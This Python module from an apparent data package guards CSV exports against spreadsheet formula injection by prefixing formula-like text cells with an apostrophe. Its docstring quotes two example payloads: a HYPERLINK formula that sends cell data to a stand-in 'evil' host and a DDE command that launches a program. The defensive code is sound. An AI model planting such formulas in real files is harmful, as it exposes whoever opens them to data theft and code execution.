"""CSV formula neutralising: text cells that a spreadsheet would run as a formula are written as text.

A spreadsheet opening a CSV treats a cell starting with ``=``, ``+``, ``-`` or ``@`` as a formula (and some
also after a leading tab or carriage return): ``=HYPERLINK("http://evil/?x="&A1,"click")`` sends data away,
``+cmd|' /C calc'!A0`` runs a program (DDE). Region names and table values come from users, so every CSV the
package writes passes its text cells through :func:`neutralise_formulas` (DESIGN.md §8, "Trust boundary"):
such a cell gets a leading apostrophe (``'=HYPERLINK(…)``), which spreadsheets show as text.

Only text cells are touched: numbers stay numbers (``-5`` as a number is written ``-5``), and a text cell that
is a plain number (``"-5"``, ``"+3.25"``, ``"-1e3"``) or a lone ``-`` (a missing marker) is left as it is,
because a spreadsheet reads it as that number (or text) and runs nothing. Column names are text cells too.
``formulas="keep"`` writes every cell raw (for a consumer that is not a spreadsheet and wants the text exactly).
"""

from __future__ import annotations

import csv
import re

import pandas as pd

from geo.errors import GeoInputError

__all__ = [
    "CSV_FORMULAS",
    "FORMULA_STARTS",
    "csv_text",
    "is_formula",
    "neutralise_formulas",
    "validate_formulas",
]

#: The first characters that make a spreadsheet read a CSV cell as a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
#: The accepted values of the ``csv_formulas`` option: ``"neutralise"`` (default) or ``"keep"``.
CSV_FORMULAS = ("neutralise", "keep")

#: Text that a spreadsheet reads as a number (or, a lone ``-``, the common missing marker): nothing to run.
_HARMLESS = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?|-")


def validate_formulas(formulas: str) -> str:
    """``formulas`` if it is one of :data:`CSV_FORMULAS`, else a :class:`~geo.errors.GeoInputError`."""
    if formulas not in CSV_FORMULAS:
        msg = f"csv_formulas must be one of {', '.join(map(repr, CSV_FORMULAS))}, not {formulas!r}"
        raise GeoInputError(msg)
    return formulas


def is_formula(value: object) -> bool:
    """Whether ``value`` is a text cell a spreadsheet would read as a formula.

    Parameters
    ----------
    value
        One cell. Only ``str`` values can be formulas; a text cell that is a plain number (``"-5"``) is not.
    """
    return isinstance(value, str) and value.startswith(FORMULA_STARTS) and _HARMLESS.fullmatch(value) is None


def _safe(value: object) -> object:
    return f"'{value}" if is_formula(value) else value


def neutralise_formulas(table: pd.DataFrame, *, formulas: str = "neutralise") -> pd.DataFrame:
    """The table with every formula-like text cell (and column name) prefixed with ``'``.

    Parameters
    ----------
    table
        The table about to be written as CSV. It is not modified.
    formulas
        ``"neutralise"`` (default): prefix text cells starting with ``=``, ``+``, ``-``, ``@``, a tab or a
        carriage return with an apostrophe; ``"keep"``: return ``table`` unchanged.

    Returns
    -------
    pandas.DataFrame
        A copy with the neutralised cells (the same object when nothing needed a change or with ``"keep"``).
        Numeric, boolean and date columns are never touched.

    Raises
    ------
    GeoInputError
        ``formulas`` is not one of :data:`CSV_FORMULAS`.
    """
    if validate_formulas(formulas) == "keep":
        return table
    out = table
    for i in range(table.shape[1]):
        series = table.iloc[:, i]
        if not (pd.api.types.is_object_dtype(series) or pd.api.types.is_string_dtype(series)):
            continue
        flagged = series.map(is_formula, na_action="ignore").fillna(False).astype(bool)
        if flagged.any():
            if out is table:
                out = table.copy()
            cells = series.astype(object).copy()
            cells[flagged.to_numpy()] = [f"'{v}" for v in series[flagged.to_numpy()]]
            out.isetitem(i, cells)
    names = [_safe(c) for c in table.columns]
    if names != list(table.columns):
        out = out.copy() if out is table else out
        out.columns = names
    return out


def csv_text(table: pd.DataFrame, *, formulas: str = "neutralise") -> str:
    """``table`` as CSV text (no index, newline line ends) with formula cells neutralised.

    Parameters
    ----------
    table
        The table to write.
    formulas
        ``"neutralise"`` (default) or ``"keep"``, as in :func:`neutralise_formulas`.

    Returns
    -------
    str
        The CSV text. Python's CSV writer quotes only the characters of its line terminator, so a text cell
        holding a bare carriage return would end the row early for every reader: when one does, every text
        cell is quoted (numbers stay unquoted), and the text reads back exactly.
    """
    table = neutralise_formulas(table, formulas=formulas)
    texts = [
        table.iloc[:, i]
        for i in range(table.shape[1])
        if pd.api.types.is_object_dtype(table.iloc[:, i]) or pd.api.types.is_string_dtype(table.iloc[:, i])
    ]
    has_cr = any(series.astype(str).str.contains("\r", regex=False).any() for series in texts)
    has_cr = has_cr or any("\r" in str(c) for c in table.columns)
    quoting = csv.QUOTE_NONNUMERIC if has_cr else csv.QUOTE_MINIMAL
    return table.to_csv(index=False, lineterminator="\n", quoting=quoting)
